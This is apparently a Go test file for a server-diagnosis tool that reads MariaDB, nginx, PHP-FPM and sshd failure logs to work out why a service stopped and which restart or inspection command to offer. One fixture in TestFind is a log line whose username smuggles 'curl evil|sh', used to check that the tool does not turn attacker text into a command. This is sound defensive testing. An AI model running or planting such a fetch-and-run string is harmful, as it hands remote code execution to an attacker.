package cause

import (
	"strings"
	"testing"
	"time"

	"github.com/omamori-guard/omamori/chain"
	"github.com/omamori-guard/omamori/words"
)

// said lists, for each rule in its order, a line as the daemon printed it.
var said = []string{
	"2026-11-20 10:00:01 0 [ERROR] InnoDB: Inconsistent tablespace ID in ./blog/wp_posts.ibd",
	"2026-11-20 10:00:01 0 [ERROR] InnoDB: Invalid log header checksum",
	"2026-11-20 10:00:01 0 [ERROR] InnoDB: File ./ib_logfile0 was not found",
	"2026-11-20 10:00:01 0 [ERROR] InnoDB: Database page corruption on disk or a failed read of file './ibdata1' page [page id: space=0, page number=5].",
	"2026-11-20 10:00:01 0 [ERROR] InnoDB: Space id and page no stored in the page, read in are [page id: space=9, page number=1], should be [page id: space=0, page number=5]",
	"2026-11-20 10:00:01 0 [ERROR] InnoDB: Plugin initialization aborted with error Page read from tablespace is corrupted.",
	"2026-11-20 10:00:01 0 [ERROR] InnoDB: Plugin initialization aborted at srv0start.cc[1464] with error Data structure corruption",
	"2026-11-20 10:00:01 0 [ERROR] InnoDB: The Auto-extending data file './ibdata1' is of a different size 0 pages than specified by innodb_data_file_path",
	"2026-11-20 10:00:01 0 [ERROR] InnoDB: Corruption of an index tree: table `blog`.`wp_posts` index `PRIMARY`, father ptr page no 4",
	"2026-11-20 10:00:01 0 [ERROR] InnoDB: Checksum mismatch in datafile: ./blog/wp_posts.ibd, Space ID: 9, Flags: 21",

	"2026-11-20 10:00:01 0 [ERROR] DDL_LOG: Failed to create ddl log file: ./ddl_recovery.log (Errcode: 28 \"No space left on device\")",
	"2026-11-20 10:00:01 0 [ERROR] InnoDB: Could not set the file size of './ibtmp1'. Probably out of disk space",
	"2026-11-20 10:00:01 7 [FATAL] InnoDB: Error (Out of disk space) in rollback.",
	"2026-11-20 10:00:01 5 [Warning] mariadbd: Disk is full writing './binlog.000001' (Errcode: 0). Waiting for someone to free space...",
	"2026/11/20 10:00:01 [crit] 7#7: *1 pwrite() \"/var/lib/nginx/body/1\" failed (28: No space left on device)",
	"2026-11-20 10:00:01 0 [ERROR] mariadbd: Can't create/write to file './aria_log.1' (Errcode: 30 \"Read-only file system\")",
	"nginx: [emerg] open() \"/run/nginx.pid\" failed (30: Read-only file system)",

	"2026-11-20 10:00:01 0 [ERROR] mariadbd: Can't lock aria control file '/var/lib/mysql/aria_log_control' for exclusive use, error: 11. Will retry for 30 seconds",
	"2026-11-20 10:00:01 0 [ERROR] InnoDB: Unable to lock ./ibdata1 error: 11",
	"2026-11-20 10:00:01 0 [ERROR] Do you already have another server running on socket: /run/mysqld/mysqld.sock ?",
	"nginx: [emerg] bind() to 0.0.0.0:80 failed (98: Address already in use)",
	"[20-Nov-2026 10:00:01] ERROR: Another FPM instance seems to already listen on /run/php/php8.2-fpm.sock",
	"[20-Nov-2026 10:00:01] ERROR: unable to bind listening socket for address '127.0.0.1:9000': Address already in use (98)",
	"error: Bind to port 22 on 0.0.0.0 failed: Address already in use.",

	"2026-11-20 10:00:01 0 [ERROR] mariadbd: Can't create/write to file '/var/lib/mysql/aria_log_control' (Errcode: 13 \"Permission denied\")",
	"nginx: [emerg] open() \"/var/log/nginx/error.log\" failed (13: Permission denied)",

	"2026-11-20 10:00:01 0 [ERROR] InnoDB: Cannot map innodb_buffer_pool_size_max=64g",
	"2026-11-20 10:00:01 0 [ERROR] InnoDB: Cannot allocate memory for the buffer pool",
	"2026-11-20 10:00:01 0 [ERROR] mariadbd: Out of memory (Needed 130760 bytes)",
	"2026/11/20 10:00:01 [emerg] 7#7: fork() failed (12: Cannot allocate memory)",

	"2026-11-20 10:00:01 0 [ERROR] /usr/sbin/mariadbd: unknown variable 'inodb_buffer=1'",
	"2026-11-20 10:00:01 0 [ERROR] /usr/sbin/mariadbd: unknown option '--nonsense'",
	"2026-11-20 10:00:01 0 [ERROR] /usr/sbin/mariadbd: Error while setting value 'x' to 'sql_mode'",
	"Could not open required defaults file: /etc/mysql/none.cnf",
	"nginx: [emerg] unknown directive \"sever\" in /etc/nginx/nginx.conf:3",
	"[20-Nov-2026 10:00:01] ERROR: [/etc/php/8.2/fpm/pool.d/www.conf:3] unknown entry 'pm.max_childs'",
	"[20-Nov-2026 10:00:01] ERROR: failed to load configuration file '/etc/php/8.2/fpm/php-fpm.conf'",
	"[20-Nov-2026 10:00:01] ERROR: [pool www] cannot get uid for user 'nobdy'",
	"[20-Nov-2026 10:00:01] ERROR: FPM initialization failed",
	"/etc/ssh/sshd_config: line 3: Bad configuration option: Prot",
	"sshd: no hostkeys available -- exiting.",
	"Missing privilege separation directory: /run/sshd",
	"2026-11-20 10:00:01 0 [ERROR] Can't start server : Bind on unix socket: Inappropriate ioctl for device",

	"261120 10:00:01 [ERROR] /usr/sbin/mariadbd got signal 11 ;",
	"2026-11-20 10:00:01 0 [Note] /usr/sbin/mariadbd (initiated by: unknown): Normal shutdown",
	"[20-Nov-2026 10:00:01] NOTICE: Received signal 15; terminating.",
	"[20-Nov-2026 10:00:01] WARNING: [pool www] child 7 exited on signal 11 (SIGSEGV - core dumped) after 3.1 seconds from start",
}

func TestRules(t *testing.T) {
	all := rules()
	if len(said) != len(all) {
		t.Fatalf("%d lines for %d rules", len(said), len(all))
	}
	for i, r := range all {
		if !r.matches(said[i]) {
			t.Errorf("rule %d, %s %q, does not know %q", i, r.code, r.all, said[i])
			continue
		}
		got, _ := match([]string{said[i]}, r.when)
		if got == nil || got.code != r.code {
			t.Errorf("%q is %v, want %s", said[i], got, r.code)
		}
		e := chain.Evidence{Service: "x", Process: chain.Process{PID: 7, Running: r.when == whileAlive, State: "S"}, Log: []string{said[i]}}
		f := Of(e)
		for _, text := range []chain.Text{f.Why, f.Next} {
			if !text.IsZero() && !words.Has(text.Key) {
				t.Errorf("%s: no words for %q", r.code, text.Key)
			}
		}
		if f.Why.IsZero() || !f.Restartable && f.Next.IsZero() {
			t.Errorf("%s: says too little: %+v", r.code, f)
		}
	}
}

func killed(signal int) chain.Process {
	return chain.Process{PID: 7, KnownExit: true, Signal: signal, Exited: time.Now()}
}

var (
	alive  = chain.Process{PID: 7, Running: true, State: "S", Started: time.Now().Add(-time.Hour)}
	kernel = []string{
		"oom-kill:constraint=CONSTRAINT_NONE,nodemask=(null),cpuset=/,mems_allowed=0,global_oom,task_memcg=/,task=mariadbd,pid=7,uid=110",
		"Out of memory: Killed process 7 (mariadbd) total-vm:9000000kB, anon-rss:100000kB, file-rss:20kB, shmem-rss:0kB, UID:110 pgtables:900kB oom_score_adj:0",
	}
	roomy = []chain.Disk{{Path: "/var/lib/mysql", Free: 10 << 30, Size: 20 << 30, Inodes: 9, Nodes: 10}}
)

func TestOf(t *testing.T) {
	other := "Out of memory: Killed process 8 (php-fpm) total-vm:1kB, anon-rss:1kB, file-rss:0kB, shmem-rss:0kB"
	for name, c := range map[string]struct {
		e           chain.Evidence
		code        string
		restartable bool
	}{
		"kill -9":             {chain.Evidence{Process: killed(9), Disks: roomy}, Killed, true},
		"kill":                {chain.Evidence{Process: killed(15)}, Killed, true},
		"out of memory":       {chain.Evidence{Process: killed(9), Kernel: kernel}, OOM, true},
		"memory of another":   {chain.Evidence{Process: killed(9), Kernel: []string{other}}, Killed, true},
		"cgroup counter":      {chain.Evidence{Process: killed(9), OOMKills: 1}, OOM, true},
		"counter, other exit": {chain.Evidence{Process: killed(11), OOMKills: 1}, Crashed, true},
		"segmentation fault":  {chain.Evidence{Process: killed(11)}, Crashed, true},
		"old complaint":       {chain.Evidence{Process: killed(9), Log: said[:1]}, Killed, true},
		"corrupt":             {chain.Evidence{Process: chain.Process{PID: 7, KnownExit: true, Code: 1}, Log: said[:1]}, Corrupt, false},
		"corrupt, then more":  {chain.Evidence{Process: chain.Process{PID: 7, KnownExit: true, Code: 1}, Log: []string{said[1], said[42]}}, Corrupt, false},
		"disk full": {chain.Evidence{Process: chain.Process{PID: 7, KnownExit: true, Signal: 6}, Log: said[12:13],
			Disks: []chain.Disk{{Path: "/db", Free: 1 << 20, Size: 1 << 30}}}, DiskFull, false},
		"disk was full": {chain.Evidence{Process: chain.Process{PID: 7, KnownExit: true, Code: 1}, Log: said[10:11], Disks: roomy}, DiskFull, true},
		"disk was read-only": {chain.Evidence{Process: chain.Process{PID: 7, KnownExit: true, Code: 1},
			Log: []string{"[ERROR] mariadbd: Can't create/write to file './ddl_recovery.log' (Errcode: 30 \"Read-only file system\")"}, Disks: roomy}, ReadOnlyDisk, true},
		"no inodes":  {chain.Evidence{Process: killed(9), Disks: []chain.Disk{{Path: "/db", Free: 1 << 30, Size: 1 << 31, Nodes: 9}}}, DiskFull, false},
		"read-only":  {chain.Evidence{Process: killed(9), Disks: []chain.Disk{{Path: "/db", Free: 1 << 30, Size: 1 << 31, ReadOnly: true}}}, ReadOnlyDisk, false},
		"on purpose": {chain.Evidence{Process: killed(15), Manager: "systemd", OnPurpose: true}, StoppedOn, false},
		"shut down by an account": {chain.Evidence{Process: chain.Process{PID: 7, KnownExit: true},
			Log: []string{"2026-11-20 10:00:01 9 [Note] /usr/sbin/mariadbd (initiated by: root[root] @ localhost []): Normal shutdown"}}, StoppedOn, false},
		"by omamori":     {chain.Evidence{Process: chain.Process{PID: 7, KnownExit: true, Signal: 9, Asked: true}}, StoppedByGuard, true},
		"exit 0":         {chain.Evidence{Process: chain.Process{PID: 7, KnownExit: true}}, Killed, true},
		"exit 3":         {chain.Evidence{Process: chain.Process{PID: 7, KnownExit: true, Code: 3}}, Unknown, true},
		"never ran":      {chain.Evidence{}, Unknown, true},
		"nobody's child": {chain.Evidence{Process: chain.Process{PID: 7, Exited: time.Now()}}, Unknown, true},
		"zombie":         {chain.Evidence{Process: chain.Process{PID: 7, Running: true, State: "Z"}}, Unknown, true},
		"stopped":        {chain.Evidence{Process: chain.Process{PID: 7, Running: true, State: "T"}}, Hung, true},
		"in a debugger":  {chain.Evidence{Process: chain.Process{PID: 7, Running: true, State: "t"}}, Traced, false},
		"well":           {chain.Evidence{Process: alive, At: time.Now(), Disks: roomy}, Unknown, true},
		"young":          {chain.Evidence{At: time.Now(), Process: chain.Process{PID: 7, Running: true, State: "S", Started: time.Now().Add(-time.Second)}}, Starting, false},
		"a long recovery": {chain.Evidence{At: time.Now(), Process: alive, Log: []string{
			"2026-11-20 [Note] Starting MariaDB 10.11.19-MariaDB", "InnoDB: Starting final batch to recover 900 pages from redo log."}}, Starting, false},
	} {
		c.e.Service = "mariadb"
		f := Of(c.e)
		if f.Code != c.code || f.Restartable != c.restartable {
			t.Errorf("%s: %s, restartable %v; want %s, %v", name, f.Code, f.Restartable, c.code, c.restartable)
		}
		if f.Why.IsZero() || !words.Has(f.Why.Key) || !f.Restartable && !words.Has(f.Next.Key) {
			t.Errorf("%s: says too little: %+v", name, f)
		}
	}
}

func TestTheKernelsLineIsQuoted(t *testing.T) {
	f := Of(chain.Evidence{Service: "mariadb", Process: killed(9), Kernel: kernel})
	if len(f.Evidence) != 2 || f.Evidence[0] != kernel[0] || f.Why.Args["held"] != "102420480" {
		t.Errorf("%+v", f)
	}
}

func TestPlan(t *testing.T) {
	hungProof := chain.Broke(Hung, chain.Say("x.hung"), chain.Say("x.hint"))
	for name, c := range map[string]struct {
		p     chain.Proof
		e     chain.Evidence
		code  string
		deeds string
	}{
		"dead":            {chain.Broke("", chain.Text{}, chain.Text{}), chain.Evidence{Process: killed(9)}, Killed, "start"},
		"stopped":         {hungProof, chain.Evidence{Process: chain.Process{PID: 7, Running: true, State: "T"}}, Hung, "kill start"},
		"hung":            {hungProof, chain.Evidence{Process: alive}, Hung, "kill start"},
		"does not listen": {chain.Broke(Refused, chain.Text{}, chain.Text{}), chain.Evidence{Process: alive}, Refused, "restart"},
		"slow once":       {chain.Broke("timeout", chain.Say("x.slow"), chain.Say("x.hint")), chain.Evidence{Process: alive}, "timeout", ""},
		"wrong password":  {chain.Broke("wrong_password", chain.Say("x.pw"), chain.Say("x.hint")), chain.Evidence{Process: alive}, "wrong_password", ""},
		"corrupt":         {chain.Broke("", chain.Text{}, chain.Text{}), chain.Evidence{Process: chain.Process{PID: 7, KnownExit: true, Code: 1}, Log: said[:1]}, Corrupt, ""},
		"hung, disk full": {hungProof, chain.Evidence{Process: alive, Disks: []chain.Disk{{Path: "/db", Size: 1 << 30}}}, DiskFull, ""},
		"started since":   {chain.Proof{Cause: Hung, At: time.Now().Add(-2 * time.Hour)}, chain.Evidence{Process: alive}, Starting, ""},
	} {
		c.e.Service = "mariadb"
		plan := Plan(c.p, c.e)
		var verbs []string
		for _, d := range plan.Deeds {
			verbs = append(verbs, string(d.Verb))
		}
		if plan.Cause != c.code || strings.Join(verbs, " ") != c.deeds {
			t.Errorf("%s: %s by %v; want %s by %q", name, plan.Cause, verbs, c.code, c.deeds)
		}
		if len(plan.Deeds) == 0 && plan.Next.IsZero() {
			t.Errorf("%s: nothing is done, and nobody is told what to do", name)
		}
	}
	if p := Plan(hungProof, chain.Evidence{}); len(p.Deeds) != 0 {
		t.Errorf("deeds without a service: %v", p.Deeds)
	}
}

func TestOldLinesDoNotCount(t *testing.T) {
	now := time.Now()
	line := func(age time.Duration, text string) string {
		return now.Add(-age).Format("2006-01-02 15:04:05") + " 0 " + text
	}
	e := chain.Evidence{Service: "mariadb", At: now, Process: chain.Process{PID: 7, KnownExit: true, Code: 1, Started: now.Add(-time.Minute)},
		Log: []string{line(time.Hour, "[ERROR] InnoDB: Invalid log header checksum"), "(of that line)", line(time.Second, "[ERROR] x: unknown option '--y'")}}
	if f := Of(e); f.Code != BadConfig {
		t.Errorf("got %s: %v", f.Code, f.Evidence)
	}
}

func FuzzOf(f *testing.F) {
	for _, line := range said {
		f.Add(line, kernel[1], 9, true)
	}
	f.Fuzz(func(t *testing.T, log, kernel string, signal int, known bool) {
		e := chain.Evidence{Service: "x", Log: strings.Split(log, "\n"), Kernel: []string{kernel},
			Process: chain.Process{PID: 7, KnownExit: known, Signal: signal}}
		found := Of(e)
		if found.Code == "" || found.Why.IsZero() || !found.Restartable && found.Next.IsZero() {
			t.Errorf("says too little: %+v", found)
		}
		for _, q := range found.Evidence {
			if len([]rune(q)) > 2*maxQuoted {
				t.Errorf("%d characters of evidence", len([]rune(q)))
			}
		}
	})
}

// A person is told to start the unit, which may have another name.
// A client of MariaDB gives himself what name he likes, and it stands in the log.
func TestFind(t *testing.T) {
	for line, want := range map[string]string{
		"[ERROR] mariadbd: Can't lock aria control file '/var/lib/mysql/aria_log_control' for exclusive use": "fuser -v /var/lib/mysql/aria_log_control",
		"[Warning] Access denied for user 'Can't lock aria control file '/x;curl evil|sh #'@'192.0.2.1'":     "pgrep -a mariadbd",
	} {
		if r, _ := match([]string{line}, onceDead); r == nil || find(r.try, line) != want {
			t.Errorf("%s: %+v", line, r)
		}
	}
	for path, want := range map[string]bool{"/var/lib/mysql": true, "/srv/ブログ/a-b_c.d": true, "": false, "x": false, "/a/../b": false, "/a b": false, "/a;b": false, "/a\nb": false, "/a'b": false, "/a*": false} {
		if PlainPath(path) != want {
			t.Errorf("%q", path)
		}
	}
}

func TestStartCommand(t *testing.T) {
	for want, e := range map[string]chain.Evidence{
		"systemctl start php8.2-fpm": {Service: "php", Manager: "systemd", Unit: "php8.2-fpm"},
		"systemctl start mariadb":    {Service: "mariadb", Manager: "systemd"},
		"service mysql start":        {Service: "mariadb", Manager: "service", Unit: "mysql"},
		"omamori run":                {Service: "mariadb", Manager: "hands"},
	} {
		if got := StartCommand(e); got != want {
			t.Errorf("%q, not %q", got, want)
		}
	}
}
